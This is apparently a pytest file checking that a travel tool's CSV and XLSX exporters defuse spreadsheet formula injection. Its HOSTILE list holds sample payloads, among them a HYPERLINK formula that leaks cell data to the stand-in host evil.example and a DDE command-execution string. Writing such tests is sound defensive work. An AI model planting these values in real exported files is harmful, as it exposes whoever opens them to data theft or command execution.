"""No file Tourdesk writes holds a live formula: hostile values through every exporter, read
back with openpyxl and the csv module as a spreadsheet would see them.

Covered here: ``pipeline.outfiles`` itself and ``tourdesk dictionary export`` (CSV and XLSX),
with the way back in (``dictionary import`` of an exported file gives the values as typed).
The control report and the mailing lists are moved onto ``pipeline.outfiles`` by their owners;
their cases are below, expected to fail until then.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from pipeline.cli.dictionary import dictionary
from pipeline.outfiles import FORMULA_STARTS, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+7 916 123-45-67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _csv_cells(path, delimiter: str) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _xlsx_cells(path) -> list[object]:
    book = load_workbook(path)  # not read_only: data_type "f" is a formula cell
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
    return [c.value for c in cells]


def _live(values) -> list[object]:
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


def test_outfiles_writers_neutralise_every_text_cell(tmp_path):
    rows = [[v, v, 1, None] for v in HOSTILE]
    write_csv(tmp_path / "out.csv", ["name", "=header", "n", "x"], rows)
    write_xlsx(tmp_path / "out.xlsx", [("=sheet", ["name", "=header", "n", "x"], rows)])
    assert not _live(_csv_cells(tmp_path / "out.csv", ";"))
    assert not _live(_xlsx_cells(tmp_path / "out.xlsx"))


def run(url: str, *args: str):
    result = CliRunner().invoke(dictionary, [*args, "--db", url], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_dictionary_export_has_no_live_formula_and_comes_back_as_typed(db_url, tmp_path, suffix):
    given = tmp_path / "given.csv"
    with given.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["ru", "en", "fr", "kind"])
        for n, value in enumerate(HOSTILE):
            writer.writerow([f"город {n} {value}", value, value, "city"])
    run(db_url, "import", str(given))
    out = tmp_path / f"export{suffix}"
    run(db_url, "export", str(out), "--kind", "city")
    cells = _csv_cells(out, ",") if suffix == ".csv" else _xlsx_cells(out)
    assert not _live(cells)
    assert sum(1 for c in cells if isinstance(c, str) and c.startswith("'=")) >= len(HOSTILE)
    # the way back: the clerk's values, not the quotes the export added
    again = tmp_path / f"again{suffix}"
    run(db_url, "import", str(out))
    run(db_url, "export", str(again), "--kind", "city")
    assert (_csv_cells(again, ",") if suffix == ".csv" else _xlsx_cells(again)) == cells


def test_mailing_list_has_no_live_formula(tmp_path):
    import pandas as pd

    from pipeline.crm.mailing import EXPORT_COLUMNS, to_csv, to_xlsx

    rows = pd.DataFrame([dict.fromkeys(EXPORT_COLUMNS, v) | {"send": True} for v in HOSTILE])
    to_csv(rows, tmp_path / "m.csv")
    to_xlsx(rows, tmp_path / "m.xlsx")
    assert not _live(_csv_cells(tmp_path / "m.csv", ";"))
    assert not _live(_xlsx_cells(tmp_path / "m.xlsx"))
